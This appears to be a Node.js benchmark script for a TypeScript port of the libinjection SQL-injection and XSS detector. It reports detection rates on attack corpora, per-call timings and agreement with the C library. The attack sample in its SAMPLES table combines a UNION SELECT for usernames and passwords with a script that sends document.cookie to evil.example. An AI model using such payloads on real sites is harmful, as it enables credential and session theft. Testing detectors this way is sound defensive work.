#!/usr/bin/env node
// libinjection in TypeScript: detection on libinjection's own corpora and time per call.
//
//   npm run build && node bench/libinjection/run.mjs [--quick]
//
// Runs the compiled module (dist/), as the daemon does. Prints:
//  1. detection on corpora/: sqli-* and xss-* flagged, false_positives.txt not flagged, beside
//     the reference gates (libinjection's CI fails when more than 19 sqli lines or 20 xss lines
//     are missed: src/test-samples-*-positive.sh, `reader -m 19` / `-m 20`);
//  2. microseconds per call for a typical 30-byte benign value and a 200-byte attack;
//  3. when the C library is at hand (anchor/, see README.md), the same timings for C libinjection
//     and the ratio TS / C.
import { existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { corpusFiles, readCorpus } from './corpus.mjs';
import { anchorRun, runAnchor } from './anchor.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const modulePath = join(here, '../../dist/daemon/engine/libinjection/index.js');
if (!existsSync(modulePath)) {
  console.error(`${modulePath} is missing: run \`npm run build\` first`);
  process.exit(1);
}
const { detectSQLi, detectXSS } = await import(modulePath);
const quick = process.argv.includes('--quick');

// ---- 1. detection --------------------------------------------------------------------------
const pct = (n, d) => `${((100 * n) / d).toFixed(2)}%`;
function detection(prefix, detect, wantFlagged) {
  const rows = [];
  let total = 0;
  let good = 0;
  const misses = [];
  for (const file of corpusFiles(prefix)) {
    const lines = readCorpus(file);
    let fileGood = 0;
    for (const l of lines) {
      if (detect(l.input) === wantFlagged) fileGood++;
      else misses.push(`${file}:${l.line}  ${l.raw.length > 90 ? l.raw.slice(0, 90) + '...' : l.raw}`);
    }
    rows.push([file, fileGood, lines.length]);
    total += lines.length;
    good += fileGood;
  }
  return { rows, total, good, misses };
}

const sqli = (s) => detectSQLi(s).isSqli;
const sets = [
  ['sqli-*', 'sqli-', sqli, true, 'flagged', 'reference gate: at most 19 missed'],
  ['xss-*', 'xss-', detectXSS, true, 'flagged', 'reference gate: at most 20 missed'],
  ['false_positives.txt (SQLi)', 'false_', sqli, false, 'not flagged', 'reference: no gate (the C library flags the same lines, see the agreement below)'],
];
console.log('# libinjection-ts: detection on libinjection data/ corpora\n');
for (const [name, prefix, detect, want, verb, ref] of sets) {
  const r = detection(prefix, detect, want);
  const bad = `${r.total - r.good} ${want ? 'missed' : 'flagged'}`;
  console.log(`${name}: ${r.good}/${r.total} ${verb} (${pct(r.good, r.total)}), ${bad}; ${ref}`);
  if (!quick) for (const [file, g, t] of r.rows) console.log(`    ${file.padEnd(44)} ${String(g).padStart(6)}/${t}`);
  const show = quick ? 3 : 40;
  for (const m of r.misses.slice(0, show)) console.log(`    ${want ? 'missed ' : 'flagged'} ${m}`);
  if (r.misses.length > show) console.log(`    ... ${r.misses.length - show} more`);
  console.log('');
}

// ---- 2. time per call ----------------------------------------------------------------------
const flat = (s) => Buffer.from(s, 'latin1').toString('latin1'); // as the engine gets values
export const SAMPLES = {
  'plain word 12 B': flat('session_1234'),
  'benign 30 B': flat('john.smith@example.com/profile'),
  'attack 200 B': flat(
    "1' UNION SELECT username, password FROM users WHERE id=1 AND '1'='1' -- " +
      '<script>document.location="http://evil.example/c?"+document.cookie</script>' +
      ' ORDER BY 1,2,3 LIMIT 1 OFFSET 0 /* pad */ ;;',
  ),
};
const rounds = quick ? 3 : 9;
const iterations = quick ? 20_000 : 200_000;
const everyLine = [...corpusFiles('sqli-'), ...corpusFiles('xss-'), ...corpusFiles('false_')].flatMap((f) => readCorpus(f).map((l) => l.input));
const avgBytes = Math.round(everyLine.reduce((n, s) => n + s.length, 0) / everyLine.length);
const corpusCase = (name) => `${name} corpus line (avg ${avgBytes} B)`;

/** One timing round of every case for the TypeScript module: us per call. */
function tsRound() {
  const out = {};
  for (const [name, input] of Object.entries(SAMPLES)) {
    for (const [fname, fn] of [['sqli', detectSQLi], ['xss', detectXSS]]) {
      const t0 = process.hrtime.bigint();
      for (let i = 0; i < iterations; i++) fn(input);
      out[`${fname} ${name}`] = Number(process.hrtime.bigint() - t0) / 1000 / iterations;
    }
  }
  for (const [fname, fn] of [['sqli', detectSQLi], ['xss', detectXSS]]) {
    const t0 = process.hrtime.bigint();
    for (const s of everyLine) fn(s);
    out[corpusCase(fname)] = Number(process.hrtime.bigint() - t0) / 1000 / everyLine.length;
  }
  return out;
}

/** One timing round of the C anchor, or null without it. */
function cRound() {
  const c = runAnchor(SAMPLES, 1, iterations, everyLine, 1);
  if (c === null) return null;
  c[corpusCase('sqli')] = c.sqliPass;
  c[corpusCase('xss')] = c.xssPass;
  return c;
}

// Rounds alternate TS and C, so that load on this shared machine hits both alike; medians.
tsRound(); // warm-up: lets V8 optimise every path first
const tsRounds = [];
const cRounds = [];
for (let r = 0; r < rounds; r++) {
  tsRounds.push(tsRound());
  const c = cRound();
  if (c !== null) cRounds.push(c);
}
const median = (values) => values.sort((a, b) => a - b)[Math.floor(values.length / 2)];
const cases = Object.keys(tsRounds[0]);
console.log(`# time per call: median of ${rounds} alternating rounds (${iterations} calls per sample, one pass over ${everyLine.length} corpus lines)\n`);
if (cRounds.length > 0) console.log(`C anchor: ${cRounds[0].version} (Debian libmodsecurity3's bundled copy)\n`);
console.log(`${'case'.padEnd(36)} ${'TS us'.padStart(9)} ${cRounds.length ? 'C us'.padStart(9) + ' ' + 'TS/C'.padStart(7) : ''}`);
for (const k of cases) {
  const v = median(tsRounds.map((r) => r[k]));
  const cv = cRounds.length ? median(cRounds.map((r) => r[k])) : undefined;
  console.log(`${k.padEnd(36)} ${v.toFixed(3).padStart(9)} ${cv !== undefined ? cv.toFixed(3).padStart(9) + ' ' + (v / cv).toFixed(2).padStart(7) : ''}`);
}
if (cRounds.length === 0) console.log('\n(no C anchor: see bench/libinjection/README.md to build it)');

// ---- 3. agreement with the C library on every corpus line -----------------------------------
const ref = anchorRun(['detect'], everyLine);
if (ref) {
  let sqliSame = 0;
  let fpSame = 0;
  let xssSame = 0;
  const diffs = [];
  everyLine.forEach((s, i) => {
    const [q, fp, x] = ref.lines[i];
    const mine = detectSQLi(s);
    if (mine.isSqli === (q === '1')) sqliSame++;
    if (mine.fingerprint === (fp ?? '')) fpSame++;
    else if (diffs.length < (quick ? 5 : 25)) diffs.push(`sqli TS ${mine.fingerprint || '-'} C ${fp || '-'}  ${JSON.stringify(s.slice(0, 80))}`);
    const xs = detectXSS(s);
    if (xs === (x === '1')) xssSame++;
    else if (diffs.length < (quick ? 10 : 50)) diffs.push(`xss TS ${xs} C ${x === '1'}  ${JSON.stringify(s.slice(0, 80))}`);
  });
  const n = everyLine.length;
  console.log(`\n# agreement with C ${ref.version} on all ${n} corpus lines (versions differ: see README.md)\n`);
  console.log(`sqli verdict: ${sqliSame}/${n} (${pct(sqliSame, n)}), fingerprint: ${fpSame}/${n} (${pct(fpSame, n)})`);
  console.log(`xss verdict:  ${xssSame}/${n} (${pct(xssSame, n)})`);
  for (const d of diffs) console.log(`    ${d}`);
}
